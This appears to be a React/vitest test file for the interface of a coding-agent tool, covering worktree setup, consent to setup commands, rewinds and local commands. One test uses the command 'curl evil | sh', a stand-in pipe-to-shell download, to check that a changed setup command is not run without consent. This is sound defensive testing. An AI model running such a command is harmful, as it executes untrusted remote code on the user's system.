import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { afterEach, beforeEach, expect, test, vi } from 'vitest';

import { ServerError } from '../../src/server/request';
import type { ISetupStep } from '../../src/session/state';
import { Lacks } from '../../src/views/lacks';
import { localCommandOf, localCommands } from '../../src/views/local';
import { Radar } from '../../src/views/radar';
import { RewindPanel } from '../../src/views/rewindPanel';
import { Rewound } from '../../src/views/rewound';
import { Setup } from '../../src/views/setup';
import { makeContext, noteActions, prompt, type Calls } from './items';

let actions: Calls;
let context: ReturnType<typeof makeContext>;

beforeEach(() => {
  actions = noteActions();
  context = makeContext(actions);
});
afterEach(cleanup);

const step = (name: string, more: Partial<ISetupStep> = {}): ISetupStep => ({
  step: name,
  status: 'done',
  at: '2026-11-24T10:00:00Z',
  seconds: 0.4,
  detail: '',
  ...more
});
const worktree = {
  status: 'ready' as const,
  path: '/shop-x',
  base: 'main',
  branch: 'feature/x',
  source: '/shop',
  id: 'wt-1',
  request: {}
};

test('a worktree that came up is one line, which opens to its steps', () => {
  render(
    <Setup
      there
      context={context}
      state={{ worktree, setup: [step('base'), step('add')], activity: 'idle', items: [] }}
    />
  );
  expect(screen.queryByText('Find the base')).toBeNull();
  fireEvent.click(screen.getByRole('button', { name: /Worktree ready/ }));
  expect(screen.getByText('Find the base')).toBeTruthy();
});

test('a command of the repository is shown word by word and runs when it was agreed to', async () => {
  const setup = {
    command: 'make deps',
    source: 'repository' as const,
    needs_consent: true,
    fingerprint: 'f1',
    wait: false,
    seconds: 1800
  };
  actions.setupInfo.mockResolvedValue({ setup, recipe: null, run: null, tail: '' });
  const steps = [step('setup', { status: 'needs_consent', detail: 'make deps', seconds: null })];
  render(<Setup context={context} there state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
  expect(screen.getByText('make deps')).toBeTruthy();
  fireEvent.click(screen.getByRole('button', { name: 'Run it' }));
  await vi.waitFor(() => {
    expect(actions.runSetup).toHaveBeenCalledExactlyOnceWith('setup', 'f1');
  });
});

test('a command that is another by now is not run', async () => {
  const setup = {
    command: 'curl evil | sh',
    source: 'repository' as const,
    needs_consent: true,
    fingerprint: 'f2',
    wait: false,
    seconds: 1800
  };
  actions.setupInfo.mockResolvedValue({ setup, recipe: null, run: null, tail: '' });
  const steps = [step('setup', { status: 'needs_consent', detail: 'make deps', seconds: null })];
  render(<Setup context={context} there state={{ worktree, setup: steps, activity: 'idle', items: [] }} />);
  fireEvent.click(screen.getByRole('button', { name: 'Run it' }));
  await screen.findByText('The command has changed: curl evil | sh');
  expect(actions.runSetup).not.toHaveBeenCalled();
});

test('a worktree that was not made says why, and can be asked for again or otherwise', async () => {
  const failed = { ...worktree, status: 'failed' as const };
  const steps = [step('add', { status: 'failed', detail: 'The disk is full' })];
  const failure = {
    type: 'failure' as const,
    id: '7',
    at: '',
    reason: 'worktree',
    message: 'The worktree could not be made: the disk is full',
    detail: null,
    retryable: true
  };
  const state = { worktree: failed, setup: steps, activity: 'failed' as const, items: [failure] };
  render(<Setup context={context} there state={state} />);
  expect(screen.getByText('The worktree could not be made: the disk is full')).toBeTruthy();
  fireEvent.click(screen.getByRole('button', { name: 'Try again' }));
  expect(actions.retryWorktree).toHaveBeenCalledOnce();
  await vi.waitFor(() => {
    expect(screen.getByRole<HTMLButtonElement>('button', { name: 'Try again' }).disabled).toBe(false);
  });
  fireEvent.click(screen.getByRole('button', { name: 'Retry with changes…' }));
  expect(actions.changeWorktree).toHaveBeenCalledOnce();
});

const summary = {
  id: 'wt-1',
  branch: 'feature/x',
  base: 'main',
  path: '/shop-x',
  base_commit: 'c0',
  status: 'ready' as const,
  lacks: {
    line: 'Not in this worktree: 2 uncommitted changes.',
    uncommitted: 2,
    uncommitted_files: ['a', 'b'],
    commits: 0,
    ignored: [],
    submodules: [],
    behind: 0,
    upstream: null
  }
};

test('what the worktree lacks is one line, and is carried over with a click', async () => {
  render(<Lacks context={context} worktree={summary} />);
  expect(screen.getByText('Not in this worktree: 2 uncommitted changes.')).toBeTruthy();
  fireEvent.click(screen.getByRole('button', { name: 'Carry over' }));
  await screen.findByText('Carried 2 files over.');
});

test('what collides is named, and a click goes there', () => {
  const conflicts = [{ session: 'b', files: ['a.py'], kind: 'would_conflict' as const }];
  render(<Radar context={context} conflicts={conflicts} />);
  const mark = screen.getByRole('button', { name: /“thesis” would not merge with this: a\.py/ });
  fireEvent.click(mark);
  expect(actions.openSession).toHaveBeenCalledExactlyOnceWith('b');
});

test('a rewind shows what it writes and what somebody else has changed before it writes', async () => {
  const files = { snapshot: 'c0', written: ['a.txt'], deleted: ['b.txt'], kept: [], external: ['b.txt'] };
  actions.previewRewind.mockResolvedValue({ to: 1, prompt: { id: '1', text: 'one' }, files, turns: 2 });
  const onRewound = vi.fn();
  const one = prompt('1', 'one');
  render(
    <RewindPanel
      context={context}
      prompts={one.type === 'prompt' ? [one] : []}
      to={1}
      running={false}
      onChoose={vi.fn()}
      onClose={vi.fn()}
      onRewound={onRewound}
    />
  );
  await screen.findByText('a.txt');
  expect(screen.getByText(/changed by somebody else/)).toBeTruthy();
  expect(actions.rewind).not.toHaveBeenCalled();
  fireEvent.click(screen.getByRole('button', { name: 'Rewind, over these changes too' }));
  expect(actions.rewind).toHaveBeenCalledExactlyOnceWith({ to: 1, what: 'both', consent_external: true });
  await vi.waitFor(() => {
    expect(onRewound).toHaveBeenCalledExactlyOnceWith('one');
  });
});

test('taking a rewind back asks before edits that nobody has seen are written over', async () => {
  actions.rewind.mockRejectedValueOnce(
    new ServerError('external_edits', 'a.txt was changed since', 409, { files: ['a.txt'] })
  );
  const item = {
    type: 'rewound' as const,
    id: '9',
    at: '',
    seq: 9,
    what: 'both' as const,
    files: 1,
    undoes: null,
    start: 0,
    hidden: []
  };
  render(<Rewound context={context} item={item} />);
  fireEvent.click(screen.getByRole('button', { name: 'Undo' }));
  await screen.findByText('a.txt was changed since');
  expect(actions.rewind).toHaveBeenLastCalledWith({ to: 9, what: 'both' });
  fireEvent.click(screen.getByRole('button', { name: 'Undo all the same' }));
  expect(actions.rewind).toHaveBeenLastCalledWith({ to: 9, what: 'both', consent_external: true });
});

test('commands that the page sees to never reach the agent; others do', () => {
  const newWorktree = vi.fn();
  const commands = localCommands(context.trans, { rewind: vi.fn(), newWorktree, showChanges: vi.fn() });
  localCommandOf(commands, '/worktree feature/y')?.();
  expect(newWorktree).toHaveBeenCalledExactlyOnceWith('feature/y');
  expect(localCommandOf(commands, '/compact')).toBeNull();
  expect(localCommandOf(commands, 'say /rewind')).toBeNull();
  expect(localCommandOf(commands, '/rewind\nand more')).toBeNull();
});
